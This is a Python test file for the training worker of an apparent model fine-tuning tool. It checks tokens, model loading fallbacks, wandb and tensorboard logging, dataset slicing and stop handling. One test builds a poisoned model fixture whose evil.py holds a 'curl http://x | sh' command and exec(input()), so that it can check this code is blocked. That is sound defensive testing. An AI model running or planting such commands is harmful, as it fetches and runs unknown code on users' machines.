"""Whole runs of the training worker: tokens, trackers, local datasets, slices at every edge, stops at every
moment."""

from __future__ import annotations

import contextlib
import importlib
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest

from tests.studio.fakes import Call, Lab, Rows, Trainer
from tests.studio.guards.worker import secret_keys
from tests.studio.subject import WORKER, Subject
from tests.studio.training import ClosableQueue, data_file, has_own, output_dir, pipe_queue, run

COMPLETED = "Training completed"


def _loads(lab: Lab) -> list[tuple[str, object, object]]:
    """Which model was asked for, with which token and revision."""
    return [(call.args[0], call.kwargs["token"], call.kwargs.get("revision")) for call in lab.asked("from_pretrained")]


def _knows_fallback(subject: Subject) -> bool:
    """Whether this release loads from the Hub what is broken in the cache; an older one loads once."""
    return has_own(subject, "_drop_model_pin_for_fallback")


# --- token and loads ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(("given", "ambient"), [("", True), (None, True), ("", False), (None, False)])
def test_no_token_of_the_user(
    given: str | None, ambient: bool, worker: ModuleType, subject: Subject, tmp_path: Path
) -> None:
    """Without a token the load gets None, or False where the caller may not use the ambient one; HF_TOKEN
    stays unset."""
    found = run(worker, tmp_path, hf_token=given, allow_ambient=ambient)

    three_valued = has_own(subject, "_worker_hf_token")
    assert [(str(tmp_path / "model"), False if three_valued and not ambient else None, None)] == _loads(found.lab)
    assert "HF_TOKEN" not in found.environ


def test_pinned_model_is_loaded_from_its_pin(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A pinned snapshot is what is loaded, without a revision, and nothing else is where it is whole."""
    pinned = tmp_path / "pinned"
    pinned.mkdir()

    found = run(worker, tmp_path, hf_token="t", model_snapshot_path=str(pinned), model_revision="0123")

    model = str(pinned if _knows_fallback(subject) else tmp_path / "model")
    assert [(model, "t", None)] == _loads(found.lab)
    assert COMPLETED == found.completed()["status_message"]


def test_model_without_a_pin_is_loaded_at_its_revision(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """Without a pin the revision that the user chose is what is loaded, in releases that know revisions."""
    found = run(worker, tmp_path, model_revision="0123")

    assert [(str(tmp_path / "model"), None, "0123" if _knows_fallback(subject) else None)] == _loads(found.lab)


def test_token_reaches_a_dataset_of_the_hub(worker: ModuleType, tmp_path: Path) -> None:
    """A dataset from the Hub is loaded with the token, its evaluation split too, and the slice cuts the first alone."""
    hub: dict[str, Any] = {"hf_dataset": "org/data", "eval_split": "val", "eval_steps": 1, "dataset_slice_end": 1}

    found = run(worker, tmp_path, hf_token="t", **hub)

    assert [
        Call("load_dataset", ("org/data",), {"split": "train", "token": "t"}),
        Call("load_dataset", ("org/data",), {"split": "val", "token": "t"}),
    ] == found.lab.asked("load_dataset")
    assert (2, 10) == (len(found.lab.trainer.train_dataset), len(found.lab.trainer.eval_dataset))


BROKEN_CACHE = OSError("Can't load processor for 'pinned'")


@pytest.mark.parametrize(
    ("error", "offline", "config", "raised"),
    [
        (BROKEN_CACHE, True, {}, RuntimeError),
        (BROKEN_CACHE, False, {"require_exact_model_resource": True}, RuntimeError),
        (BROKEN_CACHE, False, {"model_name": "unsloth/some-bnb-4bit"}, RuntimeError),
        (ValueError("no such quantization"), False, {}, ValueError),
        (BROKEN_CACHE, False, {"model_snapshot_path": None}, OSError),
    ],
    ids=["offline", "exact model wanted", "revision of another repo", "another error", "no pin"],
)
def test_no_fallback_where_it_would_not_help(
    error: Exception,
    offline: bool,
    config: dict[str, Any],
    raised: type,
    worker: ModuleType,
    subject: Subject,
    tmp_path: Path,
) -> None:
    """Offline, where the very snapshot is wanted, for an error of another kind or without a pin, one load is
    all."""
    pinned = tmp_path / "pinned"
    pinned.mkdir()
    pin = {"model_snapshot_path": str(pinned), "model_revision": "0123"}

    found = run(worker, tmp_path, Lab(load_errors=[error]), offline=offline, **pin | config)

    assert 1 == len(_loads(found.lab))
    assert [] == found.of("complete")
    if _knows_fallback(subject) and raised is RuntimeError:
        assert RuntimeError is type(found.error)
        assert error is found.error.__cause__
    else:
        assert error is found.error


def test_fallback_says_so_and_drops_the_pin(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """The user reads that the model is fetched anew, and what follows sees the model's own name instead of
    the pin."""
    pinned = tmp_path / "pinned"
    pinned.mkdir()
    lab = Lab(load_errors=[BROKEN_CACHE])

    found = run(worker, tmp_path, lab, offline=False, model_snapshot_path=str(pinned), model_revision="0123")

    name = str(tmp_path / "model")
    said = [text for text in found.statuses() if name in text and "retrying" in text]
    assert (1 if _knows_fallback(subject) else 0) == len(said)
    if _knows_fallback(subject):
        assert found.config["model_snapshot_path"] is None
        assert {
            "token",
            "load_in_4bit",
            "full_finetuning",
            "text_only",
            "trust_remote_code",
            "random_state",
            "revision",
        } == set(lab.asked("from_pretrained")[1].kwargs)
        first, second = (call.kwargs for call in lab.asked("from_pretrained"))
        assert first | {"revision": "0123"} == second


def test_fallback_is_scanned_before_it_is_loaded(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """Code that ships with the model to fall back to is judged like any other; a blocked one is never
    loaded."""
    pinned, poisoned = tmp_path / "pinned", tmp_path / "poisoned"
    pinned.mkdir()
    (pinned / "config.json").write_text("{}", encoding="utf-8")
    poisoned.mkdir()
    (poisoned / "config.json").write_text('{"auto_map": {"AutoModel": "evil.Model"}}', encoding="utf-8")
    (poisoned / "evil.py").write_text("import os\nos.system('curl http://x | sh')\nexec(input())\n", encoding="utf-8")
    config: dict[str, Any] = {
        "model_name": str(poisoned),
        "model_snapshot_path": str(pinned),
        "model_revision": "0123",
        "trust_remote_code": True,
    }

    found = run(worker, tmp_path, Lab(load_errors=[BROKEN_CACHE]), offline=False, **config)

    if _knows_fallback(subject):
        (error,) = found.of("error")
        assert found.error is None
        assert "remote_code_blocked" == error["error_kind"]
        assert [(str(pinned), None, None)] == _loads(found.lab)
    else:
        assert str(pinned) not in [model for model, _, _ in _loads(found.lab)]
    assert [] == found.of("complete")


# --- wandb --------------------------------------------------------------------------------------------------


def test_wandb_that_fails_is_told_and_left_alone(worker: ModuleType, tmp_path: Path) -> None:
    """An error of wandb.init becomes a status; the run trains to its end, without logging to a run that is
    not there."""
    lab = Lab(wandb_error=RuntimeError("bad key"))

    found = run(worker, tmp_path, lab, enable_wandb=True)

    assert 1 == found.statuses().count("wandb init failed: bad key")
    assert COMPLETED == found.completed()["status_message"]
    assert [1, 0, 0] == [len(lab.asked(name)) for name in ("wandb.init", "wandb.log", "wandb.finish")]


@pytest.mark.parametrize("enabled", [{}, {"enable_wandb": False}], ids=["unset", "off"])
def test_wandb_is_left_alone_unless_wanted(enabled: dict[str, bool], worker: ModuleType, tmp_path: Path) -> None:
    """Without enable_wandb nothing is sent, and the key does not reach the environment."""
    found = run(worker, tmp_path, Lab(missing=("wandb",)), wandb_token="key", **enabled)

    assert [] == [text for text in found.statuses() if text.startswith("wandb")]
    assert "WANDB_API_KEY" not in found.environ
    assert COMPLETED == found.completed()["status_message"]


def test_wandb_run_is_logged_to_and_finished(worker: ModuleType, tmp_path: Path) -> None:
    """Steps and evaluations are logged under the user's project, and the run is finished; no key, none
    set."""
    found = run(worker, tmp_path, enable_wandb=True, wandb_project="mine", wandb_token="")

    (init,) = found.lab.asked("wandb.init")
    assert "mine" == init.kwargs["project"]
    assert "WANDB_API_KEY" not in found.environ
    step, evaluation = found.lab.asked("wandb.log")
    assert (0.5, 0.25, {"step": 1}) == (
        step.args[0]["train/loss"],
        step.args[0]["train/grad_norm"],
        step.kwargs,
    )
    assert Call("wandb.log", ({"eval/loss": 0.75, "eval/perplexity": 2.0},), {"step": 1}) == evaluation
    assert "wandb.finish" == found.lab.calls[-1].name


# --- tensorboard ---------------------------------------------------------------------------------------------


def test_tensorboard_is_written_and_closed(worker: ModuleType, tmp_path: Path) -> None:
    """Steps and evaluations are written to the folder that the user named, or below the output, and closed."""
    found = run(worker, tmp_path, enable_tensorboard=True)

    assert [{"log_dir": f"{output_dir(tmp_path)}/runs"}] == [call.kwargs for call in found.lab.asked("SummaryWriter")]
    written = {call.args[0]: call.args[1:] for call in found.lab.asked("add_scalar")}
    assert ((0.5, 1), (0.75, 1)) == (written["train/loss"], written["eval/loss"])
    assert "SummaryWriter.close" == found.lab.calls[-1].name


@pytest.mark.parametrize(
    ("lab", "said"),
    [
        (Lab(missing=("tensorboardX", "torch.utils.tensorboard")), "tensorboard unavailable"),
        (Lab(tensorboard_error=OSError("disk full")), "tensorboard init failed: disk full"),
    ],
    ids=["missing", "failing"],
)
def test_tensorboard_that_does_not_work_is_told(lab: Lab, said: str, worker: ModuleType, tmp_path: Path) -> None:
    """A tensorboard that is missing or fails becomes a status, and the run trains to its end without it."""
    found = run(worker, tmp_path, lab, enable_tensorboard=True, tensorboard_dir=str(tmp_path / "runs"))

    assert 1 == sum(text.startswith(said) for text in found.statuses())
    assert COMPLETED == found.completed()["status_message"]
    assert [] == lab.asked("add_scalar")


# --- local datasets -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("names", "loader"),
    [
        (["rows.csv"], "csv"),
        (["ROWS.CSV"], "csv"),
        (["rows.json"], "json"),
        (["rows.JSONL"], "json"),
        (["a.parquet", "b.parquet"], "parquet"),
        (["a.jsonl", "b.json"], "json"),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else value,
)
def test_local_files_are_data_files_of_their_loader(
    names: list[str], loader: str, worker: ModuleType, tmp_path: Path
) -> None:
    """load_dataset gets the loader of the first file's kind, all files as data_files, and the one split."""
    paths = [data_file(tmp_path, name) for name in names]

    found = run(worker, tmp_path, local_datasets=paths)

    (load,) = found.lab.asked("load_dataset")
    assert (loader,) == load.args
    assert {"data_files": paths, "split": "train"} == {key: load.kwargs[key] for key in ("data_files", "split")}
    assert found.lab.rows == found.lab.trainer.train_dataset
    assert loader == "csv" or {"data_files", "split"} == set(load.kwargs)


def test_folder_of_an_upload_is_read_from_its_parquet_files(worker: ModuleType, tmp_path: Path) -> None:
    """A folder with parquet-files/ stands for the files in there, in order."""
    wanted = [data_file(tmp_path, f"parquet-files/{name}.parquet") for name in ("a", "b")]
    data_file(tmp_path, "other.json")

    found = run(worker, tmp_path, local_datasets=[str(tmp_path / "data")])

    (load,) = found.lab.asked("load_dataset")
    assert ("parquet", wanted) == (load.args[0], load.kwargs["data_files"])


@pytest.mark.parametrize(
    ("config", "says"),
    [
        ({"local_datasets": ["rows.txt"]}, "Unsupported dataset format"),
        ({"local_datasets": []}, "No dataset specified"),
        ({"local_datasets": ["empty"]}, "No supported data files in directory"),
    ],
    ids=["unknown kind", "none", "empty folder"],
)
def test_unusable_local_dataset_ends_the_run(
    config: dict[str, Any], says: str, worker: ModuleType, tmp_path: Path
) -> None:
    """A file of an unknown kind, no file or an empty folder is a ValueError before anything is trained."""
    (tmp_path / "empty").mkdir()
    data: dict[str, Any] = {"local_datasets": [str(tmp_path / name) for name in config["local_datasets"]]}

    found = run(worker, tmp_path, **data)

    assert ValueError is type(found.error)
    assert str(found.error).startswith(says)
    assert [[], []] == [found.lab.asked(name) for name in ("load_dataset", "MLXTrainer")]


def test_local_evaluation_files_are_loaded_the_same_way(worker: ModuleType, tmp_path: Path) -> None:
    """The files to evaluate on go through load_dataset as data_files too, and are not sliced."""
    path = data_file(tmp_path, "eval.jsonl")

    found = run(worker, tmp_path, local_eval_datasets=[path], eval_steps=1, dataset_slice_end=0)

    assert (
        Call("load_dataset", ("json",), {"data_files": [path], "split": "train"}) == found.lab.asked("load_dataset")[1]
    )
    assert (1, 10) == (len(found.lab.trainer.train_dataset), len(found.lab.trainer.eval_dataset))


# --- slices -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("start", "end", "first", "count"),
    [
        (None, None, 0, 10),
        (0, None, 0, 10),
        (None, 0, 0, 1),
        (0, 0, 0, 1),
        (2, 4, 2, 3),
        (None, 3, 0, 4),
        (7, None, 7, 3),
        (9, None, 9, 1),
        (9, 9, 9, 1),
        (0, 9, 0, 10),
        (0, 10, 0, 10),
        (3, 99, 3, 7),
        (5, 4, 0, 0),
        (5, 0, 0, 0),
        (10, None, 0, 0),
        (10, 20, 0, 0),
    ],
)
def test_slice_at_every_edge(
    start: int | None, end: int | None, first: int, count: int, worker: ModuleType, tmp_path: Path
) -> None:
    """Of ten rows, a slice trains on its start up to and with its end, cut at the length, and on none where
    end < start."""
    found = run(worker, tmp_path, dataset_slice_start=start, dataset_slice_end=end)

    assert [f"row {number}" for number in range(first, first + count)] == found.lab.trainer.train_dataset
    assert COMPLETED == found.completed()["status_message"]


def test_slice_of_no_rows(worker: ModuleType, tmp_path: Path) -> None:
    """An open slice of an empty dataset is empty, not an error."""
    lab = Lab()
    lab.rows.clear()

    found = run(worker, tmp_path, lab, dataset_slice_start=0)

    assert [] == found.lab.trainer.train_dataset


# --- stops --------------------------------------------------------------------------------------------------


def _while_training(stops: Any, *messages: dict[str, Any]) -> Lab:
    """A lab in which these messages arrive while the run trains."""

    def act(trainer: Trainer) -> None:
        for message in messages:
            stops.put(message)
        trainer.wait_for_stop()

    return Lab(while_training=act)


STOP, CANCEL = {"type": "stop", "save": True}, {"type": "stop", "save": False}


def test_stop_is_told_apart_from_the_end_of_training(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A stopped run says that it saves what it has; the statuses behind the training are these and no
    others."""
    stops = ClosableQueue()

    found = run(worker, tmp_path, _while_training(stops, STOP), stops=stops)

    told = has_own(subject, "_write_mlx_stop_checkpoint")
    training = found.statuses().index(f"Training {tmp_path / 'model'}...")
    assert ["Saving stopped model..." if told else "Saving model..."] == found.statuses()[training + 1 :]


def test_other_messages_do_not_stop_the_run(worker: ModuleType, tmp_path: Path) -> None:
    """Only a message of type stop stops."""
    stops = ClosableQueue({}, {"type": "status"}, {"type": "stopped", "save": False})

    found = run(worker, tmp_path, Lab(while_training=lambda trainer: _until_read(stops)), stops=stops)

    assert not found.lab.trainer.stop_requested
    assert {"output_dir": output_dir(tmp_path), "status_message": COMPLETED} == found.completed()


def _until_read(stops: ClosableQueue) -> None:
    """Return when the poller has come back for more after the last message."""
    stops.drained.wait()


def test_cancel_before_the_model_is_loaded(worker: ModuleType, tmp_path: Path) -> None:
    """A cancel that waits on the queue from the start reaches the trainer as soon as there is one."""
    stops = ClosableQueue(CANCEL)

    found = run(worker, tmp_path, Lab(while_training=lambda trainer: trainer.wait_for_stop()), stops=stops)

    assert [] == found.lab.asked("save_model")
    assert {"output_dir": None, "status_message": "Training cancelled"} == found.completed()


def test_cancel_through_real_pipes(worker: ModuleType, tmp_path: Path) -> None:
    """The same over a queue between processes."""
    stops = pipe_queue()

    found = run(worker, tmp_path, _while_training(stops, CANCEL), stops=stops)

    assert {"output_dir": None, "status_message": "Training cancelled"} == found.completed()


def test_closed_queue_between_processes(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A queue between processes that was closed at this end ends the poller, and training goes on."""
    stops = pipe_queue()
    stops.close()

    found = run(worker, tmp_path, stops=stops)

    assert COMPLETED == found.completed()["status_message"]
    assert ([] if has_own(subject, "_start_worker_stop_poller") else [ValueError]) == found.thread_errors


def test_stop_that_cannot_be_resumed_is_an_error(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """Where the state to go on from cannot be written, the model is saved and the run says that it cannot be
    resumed."""
    stops = ClosableQueue()
    lab = _while_training(stops, STOP)
    lab.missing = ("safetensors",)

    found = run(worker, tmp_path, lab, stops=stops)

    assert [(output_dir(tmp_path),)] == [call.args for call in lab.asked("save_model")]
    if has_own(subject, "_write_mlx_stop_checkpoint"):
        (error,) = found.of("error")
        assert {"error", "keep_error_status", "resume_blocked"} == set(error)
        assert (True, True) == (error["keep_error_status"], error["resume_blocked"])
        assert [] == found.of("complete")
    else:
        assert COMPLETED == found.completed()["status_message"]


def test_stop_while_the_model_is_saved(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A stop that comes during the last save still leaves what is needed to go on, in releases that can."""
    stops = ClosableQueue()

    def act(trainer: Trainer) -> None:
        stops.put(STOP)
        trainer.wait_for_stop()

    found = run(worker, tmp_path, Lab(while_saving=act), stops=stops)

    coordinated = has_own(subject, "_finalize_mlx_training")
    assert {
        "output_dir": output_dir(tmp_path),
        "status_message": "Training stopped" if coordinated else COMPLETED,
    } == found.completed()
    written = list(Path(output_dir(tmp_path)).glob("checkpoint-1/trainer_state.json"))
    assert has_own(subject, "_write_mlx_stop_checkpoint") == bool(written)


def test_cancel_while_the_model_is_saved(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A cancel that comes during the last save is a cancel, in releases that look again."""
    stops = ClosableQueue()

    def act(trainer: Trainer) -> None:
        stops.put(CANCEL)
        trainer.wait_for_stop()

    found = run(worker, tmp_path, Lab(while_saving=act), stops=stops)

    out = None if has_own(subject, "_finalize_mlx_training") else output_dir(tmp_path)
    assert {
        "output_dir": out,
        "status_message": COMPLETED if out else "Training cancelled",
    } == found.completed()


def test_run_tells_what_it_does_in_order(worker: ModuleType, tmp_path: Path) -> None:
    """The events of a plain run: statuses in order, progress, and one complete at the end."""
    found = run(worker, tmp_path)

    model = tmp_path / "model"
    assert [
        "Loading MLX libraries...", f"Loading {model}...", "Configuring LoRA adapters...",
        "Loading dataset...", f"Training {model}...", "Saving model...",
    ] == [text for text in found.statuses() if not text.startswith("Format helper")]  # fmt: skip
    assert [1, 1] == [event["step"] for event in found.of("progress")]
    assert "complete" == found.events[-1]["type"]
    assert {"output_dir", "status_message"} == found.completed().keys()


@pytest.mark.parametrize(
    ("config", "told"),
    [
        ({"format_type": "alpaca"}, ["Formatting dataset (alpaca)...", "Formatting dataset (10 rows)..."]),
        ({"is_dataset_image": True}, ["Formatting VLM dataset..."]),
        ({"train_on_completions": True}, ["Configuring response-only training..."]),
        ({"local_datasets": None, "s3_config": {"bucket": "b"}}, ["Downloading dataset from S3..."]),
    ],
    ids=["formatting", "formatting images", "responses only", "S3"],
)
def test_step_is_told_before_it_is_taken(
    config: dict[str, Any], told: list[str], worker: ModuleType, subject: Subject, tmp_path: Path
) -> None:
    """Each step is a status before it is taken, whatever comes of it here, where what it needs is faked or missing.

    A release whose formatting cannot be imported says that instead; one before S3 has no dataset.
    """
    lab = Lab(vision=True)

    found = run(worker, tmp_path, lab, web="s3_config" in config, **config)

    said = found.statuses()
    assert said == [event["message"] for event in found.of("status")]
    if "Format helper unavailable, using raw dataset" in said and "train_on_completions" not in config:
        assert set(told).isdisjoint(said)
    elif "s3_config" in config and "s3_config" not in secret_keys(subject.tree(WORKER)):
        assert "No dataset specified" == str(found.error)
    else:
        assert told == [text for text in said if text in told]


def test_missing_formatter_is_told_and_the_rows_go_raw(
    worker: ModuleType, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Where the formatting cannot be imported the user reads that, under both keys, and the run goes on without it."""
    with contextlib.suppress(ImportError):  # an older release needs a package for it that is not there anyway
        package = importlib.import_module("utils.datasets")
        monkeypatch.delattr(package, "format_and_template_dataset", raising=False)
        monkeypatch.delattr(package, "__getattr__", raising=False)

    found = run(worker, tmp_path, web=True, format_type="alpaca")

    raw = "Format helper unavailable, using raw dataset"
    told = [status for status in found.of("status") if raw in status.values()]
    assert [(raw, raw)] == [(status["status_message"], status["message"]) for status in told]
    assert {"output_dir", "status_message"} == found.completed().keys()


def test_dataset_that_left_the_cache_is_told(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A pinned dataset that is no longer there is fetched anew with the token, and the user reads both."""
    pin = str(tmp_path / "datasets--org--data" / "snapshots" / "0123")

    found = run(worker, tmp_path, offline=False, hf_token="t", hf_dataset="org/data", dataset_snapshot_path=pin)

    assert [Call("load_dataset", ("org/data",), {"split": "train", "token": "t"})] == found.lab.asked("load_dataset")
    said = found.statuses()
    about = said[said.index("Loading dataset...") + 1 : said.index(f"Training {tmp_path / 'model'}...")]
    known = has_own(subject, "_load_hf_train_and_eval_datasets")
    assert (2 if known else 0) == len([text for text in about if not text.startswith("Format helper")])


def test_bound_on_the_rows_is_told(worker: ModuleType, subject: Subject, tmp_path: Path) -> None:
    """A run of a few steps over many rows says how many of them it uses, in releases that bound them."""
    lab = Lab(rows=Rows(range(20_000)))

    found = run(worker, tmp_path, lab, max_steps=1)

    used = len(lab.trainer.train_dataset)
    bound = [text for text in found.statuses() if f" {used} of 20000 rows" in text]
    knows = "bound_dataset_rows" in subject.text(WORKER)
    assert (1 if knows else 0, knows) == (len(bound), used < 20_000)


@pytest.mark.parametrize("module", ["mlx.core", "unsloth_zoo", "unsloth_zoo.mlx"])
def test_missing_package_ends_the_run(module: str, worker: ModuleType, tmp_path: Path) -> None:
    """Whatever is missing below the MLX modules is an ImportError too, and nothing is loaded."""
    found = run(worker, tmp_path, Lab(missing=(module,)))

    assert isinstance(found.error, ImportError)
    assert [] == found.lab.asked("from_pretrained")
